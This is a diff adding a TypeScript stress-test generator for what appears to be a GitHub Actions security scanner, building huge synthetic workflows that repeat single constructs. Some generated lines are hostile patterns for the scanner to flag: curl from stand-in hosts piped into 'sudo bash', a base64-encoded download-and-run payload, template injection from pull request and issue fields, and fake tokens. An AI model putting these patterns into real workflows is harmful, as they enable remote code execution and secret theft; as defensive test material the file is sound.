@@ -1,0 +1,378 @@
+import type { Facts } from '#lib/facts/facts.ts';
+import type { Example, Rule } from '#lib/scanner/engine/rule.ts';
+import { rules } from '#lib/scanner/rules/index.ts';
+import type { InputFile } from '#lib/workflow/repository.ts';
+import type { Span } from '#lib/workflow/text/source.ts';
+import { parseYaml, valueOf, type YamlNode } from '#lib/workflow/yaml/parse.ts';
+
+/** A repository of any size that repeats one construct. */
+export interface GrowingFiles {
+  readonly name: string;
+  /** Only this rule looks; all when left out. */
+  readonly rule?: Rule;
+  readonly example?: Example;
+  readonly facts?: Facts;
+  files(bytes: number): readonly InputFile[];
+}
+
+const PATH = '.github/workflows/a.yml';
+/** Below the limits, beyond which a file is not read. */
+const STEPS = 1_900;
+const JOBS = 950;
+
+function times(count: number, each: (index: number) => string): string {
+  return Array.from({ length: count }, (_, index) => each(index)).join('');
+}
+
+/** Repeats a text until it has so many bytes. */
+function upTo(bytes: number, each: (index: number) => string, most = Number.POSITIVE_INFINITY): string {
+  const parts: string[] = [];
+  let length = 0;
+  for (let index = 0; length < bytes && index < most; index += 1) {
+    const part = each(index);
+    parts.push(part);
+    length += part.length;
+  }
+  return parts.join('');
+}
+
+function job(steps: string, on = 'pull_request_target'): string {
+  return `on: ${on}\njobs:\n  a:\n    runs-on: ubuntu-latest\n    steps:\n${steps}`;
+}
+
+const steps = (bytes: number, each: (index: number) => string): string => job(upTo(bytes, each, STEPS));
+const jobs = (bytes: number, each: (index: number) => string): string =>
+  `on: pull_request_target\njobs:\n${upTo(bytes, each, JOBS)}`;
+/** Several scripts of the same length, since a long one is not read as shell. */
+function scripts(bytes: number, each: (bytes: number, index: number) => string): string {
+  const count = Math.ceil(bytes / 40_000);
+  return job(times(count, (index) => each(bytes / count, index)));
+}
+
+const script = (bytes: number, each: (index: number) => string): string =>
+  scripts(bytes, (part, number) => {
+    const lines = upTo(part, (index) => `        ${each(index + number * 10_000)}\n`);
+    return `    - run: |\n${lines}`;
+  });
+const run = (text: string): string => `    - run: ${text}\n`;
+const simple = (index: number): string => `  j${index}: { runs-on: x, steps: [{ run: make }] }\n`;
+
+/** Texts of one workflow by what they repeat. Values with a length of their own stay below the limits on lines and names. */
+const TEXTS: Readonly<Record<string, (bytes: number) => string>> = {
+  'spaces in uses': (bytes) => steps(bytes, () => `    - uses: "a/b@v1${' '.repeat(4_900)}x"\n`),
+  'long word in uses': (bytes) => steps(bytes, () => `    - uses: ${'a'.repeat(4_900)}/b@v1\n`),
+  'slashes in uses': (bytes) => steps(bytes, () => `    - uses: ./${'a/'.repeat(2_400)}\n`),
+  'long words as images': (bytes) =>
+    jobs(bytes, (index) => `  j${index}:\n    runs-on: x\n    container: "${'a'.repeat(4_900)}"\n    steps: []\n`),
+  'words before an expression in images': (bytes) =>
+    jobs(
+      bytes,
+      (index) =>
+        `  j${index}:\n    runs-on: x\n    container: "/: ${'a '.repeat(2_400)}\${{ github.head_ref }}"\n    steps: []\n`,
+    ),
+  'long runner labels': (bytes) =>
+    jobs(bytes, (index) => `  j${index}:\n    runs-on: "${'self-hosted '.repeat(400)}"\n    steps: []\n`),
+  'slashes in artifact paths': (bytes) =>
+    steps(bytes, () => `    - uses: actions/upload-artifact@v4\n      with:\n        path: ${'/'.repeat(40_000)}x\n`),
+  'lines in artifact paths': (bytes) =>
+    job(
+      `    - uses: actions/upload-artifact@v4\n      with:\n        path: |\n${upTo(bytes, (index) => `          ./out/${index}/**\n`)}`,
+    ),
+  'expressions in one line': (bytes) =>
+    job(upTo(bytes, () => run(`echo ${'${{github.head_ref}}'.repeat(900)}`), STEPS)),
+  'expressions on many lines': (bytes) => script(bytes, () => 'echo "${{ github.event.issue.title }}"'),
+  'expressions of one condition': (bytes) =>
+    steps(bytes, () => `    - run: make\n      if: ${"github.actor == 'a' || ".repeat(800)}true\n`),
+  'nested parentheses in conditions': (bytes) =>
+    steps(bytes, () => `    - run: make\n      if: ${'('.repeat(40)}true${')'.repeat(40)}\n`),
+  'negations in conditions': (bytes) =>
+    steps(bytes, () => `    - run: make\n      if: "${'!'.repeat(40)}github.ref"\n`),
+  'contains in conditions': (bytes) =>
+    jobs(
+      bytes,
+      (index) =>
+        `  j${index}:\n    if: ${"contains(github.event.label.name, 'x') && ".repeat(400)}true\n    runs-on: x\n    steps: [{ run: make }]\n`,
+    ),
+  'long literals in expressions': (bytes) =>
+    steps(bytes, () => run(`echo "\${{ format('${'x'.repeat(15_000)}{0}', github.head_ref) }}"`)),
+  'variables that double': (bytes) => script(bytes, () => 'A=$A$A; echo $A | sh'),
+  'variables that double in one script': (bytes) =>
+    job(`    - run: |\n${upTo(Math.min(bytes, 190_000), () => '        A=$A$A; echo $A | sh\n')}`),
+  'variables in a chain': (bytes) => script(bytes, (index) => `A${index + 1}=$A${index}; echo "$A${index}"`),
+  'environment in a chain': (bytes) =>
+    job(`    - run: echo $A5\n      env:\n${upTo(bytes, (index) => `        A${index + 1}: \${{ env.A${index} }}\n`)}`),
+  'environment of many steps': (bytes) =>
+    steps(
+      bytes,
+      (index) => `    - run: echo "A${index}=$A" >> "$GITHUB_ENV"\n      env: { A: "\${{ env.A${index - 1} }}" }\n`,
+    ),
+  'outputs in a chain of steps': (bytes) =>
+    steps(
+      bytes,
+      (index) => `    - id: s${index}\n      run: echo "v=\${{ steps.s${index - 1}.outputs.v }}" >> "$GITHUB_OUTPUT"\n`,
+    ),
+  'outputs in a chain of jobs': (bytes) =>
+    jobs(
+      bytes,
+      (index) =>
+        `  j${index}:\n    needs: [${index === 0 ? '' : `j${index - 1}`}]\n    runs-on: x\n    outputs: { v: "\${{ needs.j${index - 1}.outputs.v }}" }\n    steps: [{ run: "echo \${{ needs.j${index - 1}.outputs.v }}" }]\n`,
+    ),
+  'here-documents': (bytes) =>
+    script(bytes, (index) => `cat <<E${index} > f\n        text $A \${{ github.ref }}\n        E${index}`),
+  'open here-documents': (bytes) => script(bytes, (index) => `cat <<E${index}`),
+  'quotes that do not close': (bytes) => script(bytes, () => `echo "a 'b`),
+  'nested substitutions': (bytes) => steps(bytes, () => run(`|\n        ${'echo $('.repeat(50)}${')'.repeat(50)}`)),
+  'nested arithmetic': (bytes) => steps(bytes, () => run(`|\n        echo ${'$(( '.repeat(50)}1${' ))'.repeat(50)}`)),
+  'open substitutions': (bytes) => script(bytes, () => 'echo $('),
+  'open arithmetic': (bytes) => script(bytes, () => 'echo $(( 1 +'),
+  backticks: (bytes) => script(bytes, () => 'echo `echo `echo '),
+  'pipes in one line': (bytes) => steps(bytes, () => run(`|\n        ${'echo a | '.repeat(1_000)}cat`)),
+  'pipes to a shell': (bytes) => script(bytes, (index) => `curl -sSL https://e${index}.example/x | sudo bash -s -- $A`),
+  'one long command': (bytes) => steps(bytes, () => run(`|\n        docker run ${'-e A=b '.repeat(3_000)}image`)),
+  'long words in scripts': (bytes) =>
+    steps(bytes, () => run(`|\n        curl https://e.example/${'a'.repeat(40_000)}`)),
+  'nested blocks of shell': (bytes) =>
+    steps(bytes, () => run(`|\n        ${'if true; then '.repeat(60)}x${'; fi'.repeat(60)}`)),
+  'functions and cases': (bytes) =>
+    script(bytes, (index) => `f${index}() { case $1 in a) f${index - 1};; *) echo;; esac; }`),
+  'folder changes': (bytes) => script(bytes, (index) => `cd d${index % 50} && npm ci && cd ..`),
+  'spaces in scripts': (bytes) => steps(bytes, () => run(`|\n        echo${' '.repeat(40_000)}x`)),
+  'comments in scripts': (bytes) => script(bytes, () => '# echo # echo ${{ github.ref }} # echo'),
+  'inline JavaScript': (bytes) =>
+    scripts(bytes, (part) => {
+      const lines = upTo(
+        part,
+        (index) => `          const a${index} = \`\${a${index - 1}} \${{ github.head_ref }}\`;\n`,
+      );
+      return `    - uses: actions/github-script@v7\n      with:\n        script: |\n${lines}`;
+    }),
+  'inline Python': (bytes) =>
+    scripts(bytes, (part) => {
+      const lines = upTo(part, (index) => `          a${index} = f"{a${index - 1}} \${{ github.head_ref }}"\n`);
+      return `    - shell: python\n      run: |\n${lines}`;
+    }),
+  'aliases of steps': (bytes) =>
+    `x: &x { run: "echo \${{ github.head_ref }}" }\n${job(upTo(bytes, () => '    - *x\n', STEPS))}`,
+  'aliases of a long text': (bytes) =>
+    `env: { X: &x "${'y '.repeat(20_000)}" }\n${job(upTo(bytes, () => '    - { run: *x }\n', 500))}`,
+  'merge keys': (bytes) =>
+    `x: &x { runs-on: ubuntu-latest, steps: [{ run: make }] }\n${jobs(bytes, (index) => `  j${index}: { <<: *x }\n`).replace(/^on.*\n/, 'on: push\n')}`,
+  matrices: (bytes) =>
+    jobs(
+      bytes,
+      (index) =>
+        `  j${index}:\n    strategy: { matrix: { a: [${times(40, (n) => `${n}, `)}], b: [${times(40, (n) => `${n}, `)}] } }\n    runs-on: "\${{ matrix.a }}"\n    steps: [{ run: "echo \${{ matrix.a }} \${{ matrix.b }}" }]\n`,
+    ),
+  'one wide matrix': (bytes) =>
+    `on: push\njobs:\n  a:\n    strategy:\n      matrix:\n        include:\n${upTo(bytes, (index) => `          - { os: ubuntu-${index}, image: "i${index}:latest" }\n`)}    runs-on: \${{ matrix.os }}\n    container: \${{ matrix.image }}\n    steps: [{ run: "echo \${{ matrix.os }}" }]\n`,
+  'jobs without anything': (bytes) => jobs(bytes, simple),
+  'jobs that need all before': (bytes) =>
+    jobs(
+      bytes,
+      (index) =>
+        `  j${index}:\n    needs: [${times(Math.min(index, 30), (n) => `j${index - n - 1}, `)}]\n    runs-on: x\n    steps: [{ run: make }]\n`,
+    ),
+  'jobs that call workflows': (bytes) =>
+    jobs(
+      bytes,
+      (index) =>
+        `  j${index}:\n    uses: ./.github/workflows/a.yml\n    with: { v: "\${{ github.head_ref }}" }\n    secrets: inherit\n`,
+    ).replace('pull_request_target', '{ workflow_call: { inputs: { v: { type: string } } }, pull_request_target: }'),
+  secrets: (bytes) =>
+    steps(
+      bytes,
+      (index) => `    - run: echo \${{ secrets.S${index} }}\n      env: { A${index}: "\${{ secrets.T${index} }}" }\n`,
+    ),
+  'secrets of the workflow': (bytes) =>
+    `env:\n${upTo(bytes / 2, (index) => `  S${index}: \${{ secrets.S${index} }}\n`)}${steps(bytes / 2, (index) => run(`echo "$S${index}"`))}`,
+  checkouts: (bytes) =>
+    steps(
+      bytes,
+      (index) => `    - uses: actions/checkout@v4\n      with: { ref: "\${{ github.head_ref }}", path: p${index} }\n`,
+    ),
+  'checkouts and commands': (bytes) =>
+    steps(bytes, (index) =>
+      index % 2 === 0
+        ? `    - uses: actions/checkout@v4\n      with: { ref: "\${{ github.head_ref }}", path: p${index} }\n`
+        : `    - run: npm ci && make\n      working-directory: p${index - 1}\n`,
+    ),
+  'uploads and downloads': (bytes) =>
+    steps(
+      bytes,
+      (index) =>
+        `    - uses: actions/${index % 2 === 0 ? 'upload' : 'download'}-artifact@v4\n      with: { name: n${index >> 1}, path: p${index} }\n`,
+    ),
+  caches: (bytes) =>
+    steps(
+      bytes,
+      (index) =>
+        `    - uses: actions/cache@v4\n      with: { key: "k\${{ github.head_ref }}${index}", restore-keys: k, path: p${index} }\n`,
+    ),
+  'inputs of a dispatch': (bytes) =>
+    `on:\n  workflow_dispatch:\n    inputs:\n${upTo(bytes / 2, (index) => `      i${index}: { type: string, description: x }\n`)}${steps(bytes / 2, (index) => run(`echo \${{ inputs.i${index} }} \${{ github.event.inputs.i${index} }}`)).replace(/^on.*\n/, '')}`,
+  'globs of branches': (bytes) =>
+    `on:\n  push:\n    branches:\n${upTo(bytes, (index) => `      - "${'*'.repeat(20)}/r${index}/**/[a-z]?+x"\n`)}jobs: { a: { runs-on: x, steps: [{ run: make }] } }\n`,
+  'globs of paths': (bytes) =>
+    `on:\n  pull_request:\n    paths:\n${upTo(bytes, (index) => `      - "**/*/${index}/**/*.js"\n`)}jobs: { a: { runs-on: x, steps: [{ run: make }] } }\n`,
+  permissions: (bytes) =>
+    jobs(
+      bytes,
+      (index) =>
+        `  j${index}:\n    permissions: { contents: write, id-token: write, packages: write }\n    runs-on: x\n    steps: [{ run: npm publish }]\n`,
+    ),
+  services: (bytes) =>
+    `on: push\njobs:\n  a:\n    runs-on: x\n    services:\n${upTo(bytes, (index) => `      s${index}: { image: "i${index}:latest", credentials: { username: u, password: p${index} } }\n`)}    steps: [{ run: make }]\n`,
+  'long names': (bytes) => steps(bytes, (index) => `    - name: "${`n${index} `.repeat(4_000)}"\n      run: make\n`),
+  'long keys': (bytes) =>
+    job(`    - run: make\n      env:\n${upTo(bytes, (index) => `        ${'K'.repeat(900)}${index}: v\n`)}`),
+  comments: (bytes) => `${upTo(bytes, () => '# chainbreak: ignored # v1.2.3 # zizmor: ignoring\n')}${job(run('make'))}`,
+  'ignore comments': (bytes) => steps(bytes, () => '    # chainbreak: ignore[unpinned-uses] why\n    - uses: a/b@v1\n'),
+  'one block of ignore comments': (bytes) =>
+    job(
+      `    - run: |\n${upTo(bytes / 2, () => '        # chainbreak: ignore[template-injection] x\n')}${upTo(bytes / 2, () => '        echo ${{ github.head_ref }}\n')}`,
+    ),
+  'spaces before comments': (bytes) => steps(bytes, () => `    - uses: a/b@v1${' '.repeat(40_000)}# v1\n`),
+  'hidden characters': (bytes) => steps(bytes, () => run(`"echo \\u202e\u200b${'\u200b'.repeat(200)}"`)),
+  'encoded payloads': (bytes) => script(bytes, () => 'echo Y3VybCBodHRwczovL2UuZXhhbXBsZSB8IHNo | base64 -d | bash'),
+  credentials: (bytes) =>
+    script(
+      bytes,
+      (index) =>
+        `export TOKEN=ghp_${'aB3'.repeat(11)}${String(index).padStart(6, '0').slice(-3)} password: x${index}y9z8w7v6u5`,
+    ),
+  'one line of flow': (bytes) =>
+    `on: pull_request_target\njobs: {a: {runs-on: x, steps: [${upTo(bytes, () => '{run: "echo ${{github.head_ref}} password: x", uses: a/b@v1}, ', STEPS)}]}}\n`,
+  'agents with tools': (bytes) =>
+    steps(
+      bytes,
+      () =>
+        `    - uses: anthropics/claude-code-action@v1\n      with:\n        prompt: "\${{ github.event.issue.body }}"\n        claude_args: "${'--allowedTools Bash(x:*) '.repeat(100)}"\n`,
+    ),
+};
+
+const FILES: Readonly<Record<string, (bytes: number) => Record<string, string>>> = {
+  'small files': (bytes) =>
+    Object.fromEntries(
+      Array.from({ length: Math.round(bytes / 250) }, (_, index) => [
+        `.github/workflows/w${index}.yml`,
+        job(`    - uses: a/b@v1\n    - run: echo \${{ github.head_ref }}\n`).padEnd(250, '#'),
+      ]),
+    ),
+  'workflows that call each other': (bytes) =>
+    Object.fromEntries(
+      Array.from({ length: Math.round(bytes / 300) }, (_, index) => [
+        `.github/workflows/w${index}.yml`,
+        `on: { workflow_call: { inputs: { v: { type: string } } }, issues: }\njobs:\n  a:\n    uses: ./.github/workflows/w${index + 1}.yml\n    with: { v: "\${{ inputs.v }}" }\n  b:\n    runs-on: x\n    steps: [{ run: "echo \${{ inputs.v }}" }]\n`,
+      ]),
+    ),
+  'workflows that wait for each other': (bytes) =>
+    Object.fromEntries(
+      Array.from({ length: Math.round(bytes / 250) }, (_, index) => [
+        `.github/workflows/w${index}.yml`,
+        `name: w${index}\non: { workflow_run: { workflows: [w${index - 1}, w${index + 1}], types: [completed] } }\njobs: { a: { runs-on: x, steps: [{ uses: actions/download-artifact@v4 }, { run: make }] } }\n`,
+      ]),
+    ),
+  'actions that call each other': (bytes) => ({
+    [PATH]: job('    - uses: ./a0\n      with: { v: "${{ github.head_ref }}" }\n'),
+    ...Object.fromEntries(
+      Array.from({ length: Math.round(bytes / 250) }, (_, index) => [
+        `a${index}/action.yml`,
+        `inputs: { v: { required: true } }\nruns:\n  using: composite\n  steps:\n    - uses: ./a${index + 1}\n      with: { v: "\${{ inputs.v }}" }\n    - run: echo \${{ inputs.v }}\n      shell: bash\n`,
+      ]),
+    ),
+  }),
+  'updates of Dependabot': (bytes) => ({
+    '.github/dependabot.yml': `version: 2\nupdates:\n${upTo(bytes, (index) => `  - package-ecosystem: npm\n    directory: /d${index}\n    schedule: { interval: daily }\n`)}`,
+  }),
+  'entries of a lockfile': (bytes) => ({
+    [PATH]: steps(bytes / 2, (index) => `    - uses: a/b${index}@v1\n`),
+    '.github/workflows/actions.lock': `version: 1\nworkflows:\n  .github/workflows/a.yml:\n${upTo(bytes / 4, (index) => `    - a/b${index}@v1\n`)}actions:\n${upTo(bytes / 4, (index) => `  a/b${index}@v1: { commit: ${String(index).padStart(40, '0')} }\n`)}`,
+  }),
+  'entries of the configuration': (bytes) => ({
+    [PATH]: steps(bytes / 2, () => '    - uses: a/b@v1\n'),
+    '.github/chainbreak.yml': `ignore:\n${upTo(bytes / 2, (index) => `  - { rule: unpinned-uses, path: x${index}.yml, reason: r }\n`)}`,
+  }),
+};
+
+function inputsOf(files: Readonly<Record<string, string>>): InputFile[] {
+  return Object.entries(files).map(([path, text]) => ({ path, text }));
+}
+
+/** Returns a repository for each construct that a file can repeat. */
+export function constructs(): GrowingFiles[] {
+  return [
+    ...Object.entries(TEXTS).map(([name, text]) => ({
+      name,
+      files: (bytes: number) => inputsOf({ [PATH]: text(bytes) }),
+    })),
+    ...Object.entries(FILES).map(([name, files]) => ({ name, files: (bytes: number) => inputsOf(files(bytes)) })),
+  ];
+}
+
+/** Returns a repository for each rule that repeats the steps or jobs of its first bad example. */
+export function repeatedExamples(repeated: 'steps' | 'jobs'): GrowingFiles[] {
+  return rules.map((rule) => {
+    const example = rule.examples.bad[0] as Example;
+    const given = typeof example.yaml === 'string' ? { [PATH]: example.yaml } : example.yaml;
+    const files = (bytes: number): InputFile[] => {
+      const share = bytes / Object.keys(given).length;
+      return Object.entries(given).map(([path, text]) => ({ path, text: repeat(text, repeated, share) }));
+    };
+    return {
+      name: `${repeated} of ${rule.id}`,
+      rule,
+      example,
+      ...(example.facts === undefined ? {} : { facts: example.facts }),
+      files,
+    };
+  });
+}
+
+function repeat(text: string, what: 'steps' | 'jobs', bytes: number): string {
+  const { root } = parseYaml(text);
+  const updates = valueOf(root, 'updates');
+  if (updates !== undefined) return repeatItems(text, updates, bytes, Number.POSITIVE_INFINITY);
+  const runs = valueOf(valueOf(root, 'runs'), 'steps');
+  if (runs !== undefined) return repeatItems(text, runs, bytes, STEPS);
+  const all = valueOf(root, 'jobs');
+  if (all?.kind !== 'mapping') return text;
+  if (what === 'jobs') return repeatEntries(text, all, bytes);
+  // From behind, so that the offsets before stay.
+  const lists = [...all.entries.values()].flatMap(({ value }) => valueOf(value, 'steps') ?? []).reverse();
+  return lists.reduce((grown, list) => repeatItems(grown, list, bytes / lists.length, STEPS / lists.length), text);
+}
+
+function repeatItems(text: string, list: YamlNode, bytes: number, most: number): string {
+  if (list.kind !== 'sequence' || list.items.length === 0) return text;
+  const [first, last] = [list.items[0] as YamlNode, list.items.at(-1) as YamlNode];
+  const part = list.flow
+    ? { start: first.span.start, end: last.span.end }
+    : linesOf(text, { start: text.lastIndexOf('-', first.span.start), end: last.span.end });
+  const own = text.slice(part.start, part.end);
+  const items = upTo(bytes, () => (list.flow ? `${own}, ` : own), Math.floor(most / list.items.length));
+  return text.slice(0, part.start) + items + text.slice(part.end);
+}
+
+function repeatEntries(text: string, mapping: YamlNode, bytes: number): string {
+  if (mapping.kind !== 'mapping' || mapping.entries.size === 0) return text;
+  const entries = [...mapping.entries.values()];
+  const part = mapping.flow
+    ? { start: entries[0]?.span.start ?? 0, end: entries.at(-1)?.span.end ?? 0 }
+    : linesOf(text, { start: entries[0]?.span.start ?? 0, end: entries.at(-1)?.span.end ?? 0 });
+  const named = (index: number): string => {
+    let copy = '';
+    let at = part.start;
+    for (const { key } of entries) {
+      copy += `${text.slice(at, key.span.end)}${index === 0 ? '' : `_${index}`}`;
+      at = key.span.end;
+    }
+    return `${copy}${text.slice(at, part.end)}${mapping.flow ? ', ' : ''}`;
+  };
+  const most = Math.floor(JOBS / entries.length);
+  return text.slice(0, part.start) + upTo(bytes, named, most) + text.slice(part.end);
+}
+
+function linesOf(text: string, { start, end }: Span): Span {
+  const newline = text.indexOf('\n', end - 1);
+  return { start: text.lastIndexOf('\n', start) + 1, end: newline === -1 ? text.length : newline + 1 };
+}
